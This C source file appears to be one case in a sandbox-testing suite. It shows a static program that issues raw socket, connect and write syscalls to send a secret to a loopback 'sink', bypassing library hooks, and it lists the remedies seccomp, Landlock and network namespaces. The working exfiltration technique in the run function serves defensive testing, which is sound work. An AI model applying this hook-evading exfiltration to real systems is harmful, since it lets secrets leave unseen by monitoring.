// SPDX-License-Identifier: MIT
// build: -static
/*
 * Goal:  bytes reach the attacker's host.
 * Means: socket, connect and write by the syscall instruction itself, in a static program. There is
 *        no dynamic linker to preload a library with, and no libc function to wrap.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/syscall.h>

static long call(long nr, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "0"(nr), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

static enum claim refused(long result, const char *what)
{
	errno = (int)-result;
	return denied(what);
}

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->sink),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	long fd, rc;

	attempting(b);
	fd = call(SYS_socket, AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return refused(fd, "socket");
	rc = call(SYS_connect, fd, (long)&to, sizeof(to));
	if (rc < 0)
		return refused(rc, "connect");
	rc = call(SYS_write, fd, (long)b->secret, (long)strlen(b->secret));
	return rc < 0 ? refused(rc, "write") : CLAIM_DONE;
}

const struct attack attack = {
	.effect = "bytes reach the attacker's host",
	.means = "a static program that makes its system calls itself: nothing to preload, or wrap",
	.oracle = "sink",
	.needs = NEED_X86_64,
	.id = "NET-09",
	.attack_id = "T1041, T1106, CWE-693",
	.remedy = "seccomp without socket(2); Landlock without connecting; a network namespace",
	.run = run,
};
